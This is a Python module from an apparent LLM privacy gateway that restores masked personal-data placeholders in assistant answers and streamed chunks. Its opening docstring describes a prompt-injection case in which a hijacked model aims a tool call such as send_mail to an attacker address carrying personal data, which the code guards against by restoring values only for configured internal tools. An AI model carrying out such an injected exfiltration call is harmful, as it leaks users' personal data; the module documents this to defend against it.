"""Where an answer's placeholders may become real values again (``privacy.restore``).

Only into assistant text by default (``content``, ``refusal``): that goes back to the client who
wrote the values. Tool-call arguments are different — the model chose them, and a prompt-injected
model can aim them at ``send_mail(to="attacker@…", body="〔氏名1〕 〔電話1〕")``; the client's agent
then runs the call with whatever the gateway put there. So arguments get real values only for the
tools the config marks as internal (``privacy.restore.internal_tools``); every other tool gets its
placeholders as the model wrote them. Everywhere, the client's own placeholder-looking text comes
back as typed (placeholders.py, escaping), which carries no personal data.

Streamed answers follow the same rules: per choice, the text, the refusal and each tool call's
arguments have their own ``StreamRestorer``, so a placeholder split across deltas is held back
and released whole, and every held-back tail goes out with the choice's ``finish_reason`` chunk
(whatever its shape) or in one last chunk when the stream ends without one.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from dataclasses import dataclass
from typing import Any

from pydantic import BaseModel, ConfigDict, Field

from tenbin.config.sections import validate_section
from tenbin.privacy.masking import MaskSession
from tenbin.privacy.stream import StreamRestorer


class _RestoreSection(BaseModel):
    model_config = ConfigDict(extra="forbid", frozen=True)

    internal_tools: tuple[str, ...] = Field(
        default=(), description="tools whose call arguments get real values back (default: none)")


@dataclass(frozen=True, slots=True)
class RestoreRules:
    """``privacy.restore``: which tool calls may carry real values back to the client."""

    internal_tools: frozenset[str] = frozenset()

    @classmethod
    def from_section(cls, section: Any) -> RestoreRules:
        if section is None:
            return cls()
        if not isinstance(section, dict):
            raise ValueError("privacy.restore: must be a mapping such as {internal_tools: [lookup_customer]}")
        s = validate_section(_RestoreSection, section, "privacy.restore")
        empty = [t for t in s.internal_tools if not t.strip()]
        if empty:
            raise ValueError("privacy.restore.internal_tools: tool names must not be empty")
        return cls(frozenset(s.internal_tools))


def declared_tools(body: dict[str, Any]) -> frozenset[str]:
    """The tool names the client declared (``tools[].function.name`` and legacy ``functions``)."""
    names: set[str] = set()
    for t in body.get("tools") or ():
        fn = t.get("function") if isinstance(t, dict) else None
        if isinstance(fn, dict) and isinstance(fn.get("name"), str):
            names.add(fn["name"])
    for f in body.get("functions") or ():
        if isinstance(f, dict) and isinstance(f.get("name"), str):
            names.add(f["name"])
    return frozenset(names)


class AnswerRestorer:
    """Applies ``RestoreRules`` to one request's answers (OpenAI shapes), plain or streamed."""

    def __init__(self, session: MaskSession, rules: RestoreRules, declared: Iterable[str]) -> None:
        self.session = session
        self.rules = rules
        self.declared = frozenset(declared)

    def tool_name(self, name: str) -> str:
        """A tool name the model wrote: restored only when the result is a tool the client
        declared (its name held a masked value); anything else is left as written."""
        restored = self.session.restore(name)
        return restored if restored in self.declared else self.session.unescape(name)

    def arguments(self, name: str | None) -> Callable[[str], str]:
        """How to restore the arguments of a call to ``name`` (the restored tool name)."""
        if name is not None and name in self.rules.internal_tools:
            return self.session.restore_json
        return self.session.unescape

    # ---- a complete answer ------------------------------------------------------------------
    def response(self, response: dict[str, Any]) -> None:
        for choice in response.get("choices") or ():
            if isinstance(choice, dict) and isinstance(choice.get("message"), dict):
                self.message(choice["message"])

    def message(self, msg: dict[str, Any]) -> None:
        restore = self.session.restore
        content = msg.get("content")
        if isinstance(content, str):
            msg["content"] = restore(content)
        elif isinstance(content, list):
            for part in content:
                if isinstance(part, dict) and isinstance(part.get("text"), str):
                    part["text"] = restore(part["text"])
        if isinstance(msg.get("refusal"), str):
            msg["refusal"] = restore(msg["refusal"])
        for tc in msg.get("tool_calls") or ():
            fn = tc.get("function") if isinstance(tc, dict) else None
            if isinstance(fn, dict):
                self._call(fn)
        if isinstance(msg.get("function_call"), dict):
            self._call(msg["function_call"])

    def _call(self, fn: dict[str, Any]) -> None:
        name = fn.get("name")
        if isinstance(name, str):
            name = fn["name"] = self.tool_name(name)
        if isinstance(fn.get("arguments"), str):
            fn["arguments"] = self.arguments(name if isinstance(name, str) else None)(fn["arguments"])

    # ---- a streamed answer ------------------------------------------------------------------
    def stream(self) -> ChunkRestorer:
        return ChunkRestorer(self)


class _Call:
    """One streamed tool call (or legacy function_call): its name as far as known, its restorer."""

    __slots__ = ("name", "restorer")

    def __init__(self) -> None:
        self.name: str | None = None
        self.restorer: StreamRestorer | None = None


class _Choice:
    __slots__ = ("calls", "legacy", "refusal", "text")

    def __init__(self, session: MaskSession) -> None:
        self.text = session.stream_restorer()
        self.refusal = session.stream_restorer()
        self.calls: dict[int, _Call] = {}
        self.legacy: _Call | None = None


class ChunkRestorer:
    """Restores placeholders in streamed chunks per choice, even when split across deltas."""

    def __init__(self, answer: AnswerRestorer) -> None:
        self.answer = answer
        self._by_choice: dict[int, _Choice] = {}
        self._last: dict[str, Any] | None = None

    def _choice(self, idx: int) -> _Choice:
        c = self._by_choice.get(idx)
        if c is None:
            c = self._by_choice[idx] = _Choice(self.answer.session)
        return c

    def _feed_call(self, call: _Call, fn: dict[str, Any]) -> None:
        name = fn.get("name")
        if isinstance(name, str) and name:
            # OpenAI sends the name whole in a call's first delta; a name after the arguments
            # started (no vendor does that) does not change how they were treated.
            name = fn["name"] = self.answer.tool_name(name)
            call.name = name if call.name is None else call.name + name
        args = fn.get("arguments")
        if isinstance(args, str):
            if call.restorer is None:
                call.restorer = self.answer.session.stream_restorer(self.answer.arguments(call.name))
            fn["arguments"] = call.restorer.feed(args)

    def restore_chunk(self, chunk: dict[str, Any]) -> None:
        self._last = chunk
        for choice in chunk.get("choices") or ():
            if not isinstance(choice, dict):
                continue
            delta = choice.get("delta")
            if not isinstance(delta, dict):
                # OpenAI's last chunk may carry no delta at all; the tail still goes out in it.
                delta = choice["delta"] = {}
            state = self._choice(int(choice.get("index") or 0))
            if isinstance(delta.get("content"), str):
                delta["content"] = state.text.feed(delta["content"])
            if isinstance(delta.get("refusal"), str):
                delta["refusal"] = state.refusal.feed(delta["refusal"])
            for tc in delta.get("tool_calls") or ():
                if isinstance(tc, dict) and isinstance(tc.get("function"), dict):
                    call = state.calls.setdefault(int(tc.get("index") or 0), _Call())
                    self._feed_call(call, tc["function"])
            if isinstance(delta.get("function_call"), dict):
                if state.legacy is None:
                    state.legacy = _Call()
                self._feed_call(state.legacy, delta["function_call"])
            if choice.get("finish_reason") is not None:
                self._flush_into(state, delta)

    @staticmethod
    def _flush_into(state: _Choice, delta: dict[str, Any]) -> bool:
        """Append every held-back tail of one choice to ``delta``; True if there was any."""
        any_tail = False
        tail = state.text.flush()
        if tail:
            delta["content"] = (delta.get("content") or "") + tail
            any_tail = True
        tail = state.refusal.flush()
        if tail:
            delta["refusal"] = (delta.get("refusal") or "") + tail
            any_tail = True
        for idx, call in state.calls.items():
            tail = call.restorer.flush() if call.restorer is not None else ""
            if not tail:
                continue
            any_tail = True
            calls = delta.get("tool_calls")
            if not isinstance(calls, list):
                calls = delta["tool_calls"] = []
            same = next((c for c in calls if isinstance(c, dict) and c.get("index") == idx), None)
            if same is None:
                calls.append({"index": idx, "function": {"arguments": tail}})
            else:
                fn = same.setdefault("function", {})
                fn["arguments"] = (fn.get("arguments") or "") + tail
        if state.legacy is not None and state.legacy.restorer is not None:
            tail = state.legacy.restorer.flush()
            if tail:
                fc = delta.get("function_call")
                if not isinstance(fc, dict):
                    fc = delta["function_call"] = {}
                fc["arguments"] = (fc.get("arguments") or "") + tail
                any_tail = True
        return any_tail

    def flush_chunk(self, model: str) -> dict[str, Any] | None:
        """A final chunk with whatever is still held back (a stream that ended without a
        finish_reason for some choice), or None when nothing is."""
        choices = []
        for idx, state in self._by_choice.items():
            delta: dict[str, Any] = {}
            if self._flush_into(state, delta):
                choices.append({"index": idx, "delta": delta, "finish_reason": None})
        if not choices or self._last is None:
            return None
        return {"id": self._last.get("id"), "object": "chat.completion.chunk",
                "created": self._last.get("created"), "model": model, "choices": choices}
